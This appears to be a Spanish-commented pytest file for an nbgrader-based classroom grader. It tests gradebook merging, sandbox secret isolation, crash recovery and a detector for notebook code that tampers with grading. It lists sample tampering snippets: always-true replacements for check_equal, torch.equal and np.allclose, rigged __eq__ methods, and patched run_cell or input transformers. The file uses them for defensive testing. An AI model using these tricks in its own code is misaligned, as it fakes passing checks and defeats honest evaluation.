    assert cd.submission("ana-garcia-11", NB1).read_bytes() == b"v2"


@pytest.mark.slow
def test_libro_de_notas_conserva_lo_manual_y_su_archivo(tmp_path):
    """Volver a calificar no borra notas ni comentarios puestos en formgrader ni cambia el archivo
    (un formgrader abierto sigue trabajando sobre el libro de verdad). Los mensajes del examinador
    van al comentario automático; el puesto a mano se conserva. El examen nunca llega a los cursos
    de nbgrader (ni, por tanto, a la carpeta que ve el núcleo)."""
    from nbgrader.api import Gradebook

    from helpers.course_files import EXAM_FILE

    cd = ClassDir(tmp_path / "clase")
    cd.create()
    info = assignments.prepare_template(cd, NB1)
    assignments.prepare_master(cd, NB1, info)
    assert list(cd.template(NB1).rglob(EXAM_FILE)) == list(cd.course.rglob(EXAM_FILE)) == []
    t0, t1 = list(info["celdas"])[:2]
    s0 = "count_params"  # la celda de solución de t0
    cells = {c: [0.0, m] for c, m in info["celdas"].items()}
    export.merge_into_gradebook(
        cd,
        [
            {"cuaderno": NB1, "alumno": "ana", "nombre": "Ana", "celdas": cells, "comentarios": {s0: "mal"}},
            {"cuaderno": NB1, "alumno": "luis", "nombre": "Luis", "celdas": cells},
        ],
    )
    db = cd.course / "gradebook.db"
    inode = db.stat().st_ino
    with Gradebook(f"sqlite:///{db}") as gb:
        gb.find_grade(t0, NB1, NB1, "ana").manual_score = 1.5
        gb.find_grade(t0, NB1, NB1, "luis").manual_score = 0.5
        gb.find_comment(s0, NB1, NB1, "ana").manual_comment = "revisado a mano"
        gb.db.commit()
    cells[t1] = [2.0, cells[t1][1]]
    export.merge_into_gradebook(
        cd,
        [
            {"cuaderno": NB1, "alumno": "ana", "nombre": "Ana", "celdas": cells, "comentarios": {s0: "bien"}},
            {"cuaderno": NB1, "alumno": "luis", "nombre": "Luis", "celdas": {}},
        ],
    )
    assert db.stat().st_ino == inode
    with Gradebook(f"sqlite:///{db}") as gb:
        grade = gb.find_grade(t0, NB1, NB1, "ana")
        assert (grade.manual_score, grade.auto_score) == (1.5, 0.0)
        assert gb.find_grade(t1, NB1, NB1, "ana").auto_score == 2.0
        comment = gb.find_comment(s0, NB1, NB1, "ana")
        assert (comment.manual_comment, comment.auto_comment) == ("revisado a mano", "bien")
        assert gb.find_grade(t0, NB1, NB1, "luis").manual_score == 0.5  # no calificable, pero no se borra
    assert export.check_integrity(db)


def test_formgrader_sin_html_activo():
    """La configuración del curso (la que usa formgrader) sanea el HTML del alumnado."""
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    assert config.HTMLExporter.sanitize_html is True


def test_examen_del_codigo():
    import nbformat as nbf

    from helpers.classroom import tamper

    for path in sorted((ROOT / "solutions").glob("*/*.ipynb")):
        assert tamper.scan_notebook(nbf.read(path, as_version=4)) == [], path  # nada en un cuaderno correcto
    for source, what in [
        ("get_ipython().input_transformers_cleanup.append(f)", "transformadores"),
        ("get_ipython().run_cell = f", "run_cell"),
        ("import helpers\nhelpers.check_equal = lambda *a, **k: None", "helpers.check_equal"),
        ("torch.equal = lambda a, b: True", "torch.equal"),
        ("setattr(np, 'allclose', f)", "np.allclose"),
        ("class A(int):\n    def __eq__(self, other):\n        return True", "__eq__"),
        ("get_ipython().events.register('pre_run_cell', f)", "eventos"),
        ("import sys\nsys.modules['helpers'] = x", "sys.modules"),
        ("f.__code__ = g.__code__", "__code__"),
    ]:
        found = tamper.scan_sources([source])
        assert any(what in x for x in found), (source, found)
    assert tamper.scan_sources(["torch.backends.cudnn.deterministic = True", "if 'x' in sys.modules: pass"]) == []
    for source in [
        ("class B(int):\n    __eq__ = lambda self, other: True"),
        "class C:\n    def __bool__(self):\n        return not False",
    ]:
        assert any("comparaciones trucadas" in x for x in tamper.scan_sources([source])), source


# Código honrado que el examen no debe marcar (issue 23, punto 5): si una regla nueva marca algo de
# aquí, es una falsa alarma.
BENIGN = [
    "# sum() y len() son de builtins: no hace falta importarlos\ntotal = sum(len(x) for x in [[1], [2, 3]])",
    "total = 0  # como builtins.sum, pero a mano\nfor p in [1, 2]:\n    total += p",
    "# no toques sys.modules ni ctypes ni __code__ ni run_cell aquí\nx = 1",
    "class Punto:\n    def __init__(self, x, y):\n        self.x, self.y = x, y\n\n"
    "    def __eq__(self, other):\n        if self is other:\n            return True\n"
    "        return isinstance(other, Punto) and (self.x, self.y) == (other.x, other.y)\n\n"
    "    def __ne__(self, other):\n        return not self == other",
    "class Lote:\n    def __init__(self, items):\n        self.items = list(items)\n\n"
    "    def __bool__(self):\n        return len(self.items) > 0",
    "from dataclasses import dataclass\n\n@dataclass(eq=True)\nclass Config:\n    rank: int = 8",
    "get_ipython().run_cell_magic('timeit', '', 'sum(range(10))')",
    "builtins_usados = ['sum', 'len']\nrun_codigo = True\nprint(builtins_usados, run_codigo)",
    "import torch\nimport torch.nn.functional as F\ntorch.manual_seed(0)\nlogits = F.softmax(torch.zeros(3), dim=-1)",
    "model = None\nconfig = {'lr': 1e-3}\nconfig['lr'] = 2e-3\nnp_seed = 0",
]


@pytest.mark.parametrize("source", BENIGN)
def test_codigo_honrado_no_es_manipulacion(source):
    from helpers.classroom import tamper

    assert tamper.scan_sources([source]) == [], source


def test_huella_incluye_el_codigo_de_helpers(tmp_path):
    from helpers.classroom import grading

    folder = tmp_path / "helpers"
    shutil.copytree(ROOT / "helpers", folder, ignore=shutil.ignore_patterns("__pycache__"))
    before = grading.helpers_fingerprint(folder)
    (folder / "maintainers" / "nota.py").write_text("# las herramientas de mantenimiento no califican\n")
    assert grading.helpers_fingerprint(folder) == before
    (folder / "grading.py").write_text((folder / "grading.py").read_text() + "\n# comprobación corregida\n")
    after_check = grading.helpers_fingerprint(folder)
    assert after_check != before
    # El calificador también decide la nota (la guardia corre en cada núcleo): sin números a mano.
    (folder / "classroom" / "guard.py").write_text(
        (folder / "classroom" / "guard.py").read_text() + "\n# otra guardia\n"
    )
    assert grading.helpers_fingerprint(folder) != after_check


def test_la_caja_no_recibe_secretos(monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_secreto")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secreto")
    argv = sandbox.build_argv({"env": {"HOME": sandbox.HOME}}, ["/bin/true"], [])
    assert "hf_secreto" not in argv and "HF_TOKEN" not in argv and "secreto" not in argv
    assert "--unshare-all" in argv or "--unshare-net" in argv
    assert "--die-with-parent" in argv and "--new-session" in argv and "--clearenv" in argv
    assert "--seccomp" in argv
    env = sandbox.outer_env()  # con el que arranca bwrap (su proceso 1 lo enseña en /proc/1/environ)
    assert set(env) <= set(sandbox.OUTER_ENV) and "hf_secreto" not in str(env)


def test_guardia_restaura_lo_que_usan_las_pruebas():
    """La guardia (en un intérprete de IPython de verdad) deshace transformadores, run_cell,
    comprobaciones y funciones de biblioteca cambiados, y dice qué cambió."""
    from fixtures_classroom import ataques
    from IPython.core.interactiveshell import InteractiveShell

    from helpers.classroom import guard

    class Kernel:
        def __init__(self):
            self.shell_handlers = {"execute_request": print}

    InteractiveShell.clear_instance()
    shell = InteractiveShell.instance()
    try:
        g = guard.Guard(shell, Kernel())
        nbk = casos.Notebook(NB1)
        shell.run_cell("import helpers, torch")
        # Cada ronda: los ataques (la celda que insertan), las pruebas ya no fallan, se restaura y sí.
        for attacks, expected in (
            (
                (ataques.patched_checks, ataques.run_cell_patch),
                ("run_cell", "helpers.check_equal", "nombres de módulos redefinidos (helpers)"),
            ),
            ((ataques.input_transformers,), ("transformadores de entrada", "transformadores AST")),
        ):
            for attack in attacks:
                nb = nbformat.reads(attack(nbk, "t")[0].decode(), as_version=4)
                source = nb.cells[nbk.setup_index(nb) + 1].source
                assert shell.run_cell(source).success, source
            assert shell.run_cell("assert False\nhelpers.check_equal(1, 2, 'x')").success
            changed = g.restore()
            assert not shell.run_cell("assert False").success
            assert not shell.run_cell("helpers.check_equal(1, 2, 'x')").success
            for what in expected:
                assert any(what in c for c in changed), (what, changed)
            assert g.restore() == []  # ya está todo como al principio
    finally:
        InteractiveShell.clear_instance()


def test_integridad_tras_morir_a_mitad_de_una_escritura(tmp_path):
    """Un lote que muere dentro de una transacción deja un diario «caliente»: la comprobación de
    integridad lo deshace (el libro vuelve a lo último confirmado) en vez de fallar."""
    import sqlite3
    import subprocess

    db = tmp_path / "gradebook.db"
    con = sqlite3.connect(db)
    con.execute("CREATE TABLE notas (alumno TEXT, nota REAL)")
    con.execute("INSERT INTO notas VALUES ('ana', 3.0)")
    con.commit()
    con.close()
    # Un proceso escribe sin confirmar y muere de golpe, como con SIGKILL.
    code = (
        f"import os, sqlite3; c = sqlite3.connect({str(db)!r}); c.execute('PRAGMA cache_size=1'); "
        "c.execute('BEGIN'); c.executemany('INSERT INTO notas VALUES (?, ?)', [('x' * 500, 1.0)] * 2000); "
        "os._exit(9)"
    )
    assert subprocess.run([sys.executable, "-c", code]).returncode == 9
    assert (tmp_path / "gradebook.db-journal").exists(), "la prueba debía dejar un diario caliente"
    assert export.check_integrity(db)
    rows = sqlite3.connect(db).execute("SELECT alumno, nota FROM notas").fetchall()
    assert rows == [("ana", 3.0)], "tras deshacer el diario solo queda lo confirmado"
